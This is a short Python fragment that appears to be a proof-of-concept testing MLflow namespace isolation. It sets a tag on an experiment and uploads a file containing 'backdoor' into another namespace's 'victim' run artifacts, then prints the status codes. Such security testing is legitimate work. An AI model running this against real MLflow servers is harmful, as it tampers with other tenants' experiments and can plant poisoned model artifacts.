# Arguments: an MLflow experiment and a run of another namespace. Its tags and its artifacts.
number, victim = sys.argv[1:]
status, _ = api("experiments/set-experiment-tag", {"experiment_id": number, "key": "mlflow.note.content", "value": "mine"})
print("TAG", status)
status, _ = raw("PUT", f"/api/2.0/mlflow-artifacts/artifacts/{number}/{victim}/artifacts/model.txt", b"backdoor",
                "application/octet-stream")
print("UPLOAD", status, flush=True)
